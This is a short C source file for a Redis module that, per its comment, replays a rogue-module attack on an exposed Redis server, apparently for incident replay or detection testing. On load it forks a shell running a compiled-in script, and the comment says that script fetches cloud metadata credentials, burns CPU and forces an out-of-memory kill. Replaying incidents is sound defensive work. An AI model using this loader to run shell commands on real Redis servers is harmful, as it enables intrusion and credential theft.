/*
 * A Redis module that replays, from inside redis-server, what an attacker
 * does after loading a rogue module into an exposed Redis: it starts
 * `/bin/sh -c SCRIPT` as a child of redis-server.  The script (built by
 * tools/replay-incident and compiled in as REPLAY_SCRIPT) waits for the go
 * signal, fetches the cloud metadata credentials path with busybox wget,
 * burns CPU, then makes redis-server allocate until the container's memory
 * limit OOM-kills it.
 *
 * No redismodule.h is needed: a module only has to call the server's
 * RedisModule_SetModuleAttribs, reached through the API lookup function
 * whose pointer is the first word of the context (Redis module ABI v1).
 */
#include <stddef.h>
#include <unistd.h>

#ifndef REPLAY_SCRIPT
#error "build with -DREPLAY_SCRIPT='\"...\"' (tools/replay-incident does)"
#endif

typedef int (*get_api_fn)(const char *name, void *target);
typedef void (*set_attribs_fn)(void *ctx, const char *name, int ver, int apiver);

int RedisModule_OnLoad(void *ctx, void **argv, int argc)
{
	get_api_fn get_api = *(get_api_fn *)ctx;
	set_attribs_fn set_attribs = NULL;

	(void)argv;
	(void)argc;
	if (get_api("RedisModule_SetModuleAttribs", (void *)&set_attribs) || !set_attribs)
		return 1; /* REDISMODULE_ERR */
	set_attribs(ctx, "vigilreplay", 1, 1);

	/* the shell gets a plain environment of its own */
	static char *const envp[] = {"PATH=/bin:/usr/bin", "HOME=/", NULL};
	pid_t pid = fork();
	if (pid == 0) {
		execle("/bin/sh", "sh", "-c", REPLAY_SCRIPT, (char *)NULL, envp);
		_exit(127);
	}
	return 0; /* REDISMODULE_OK */
}
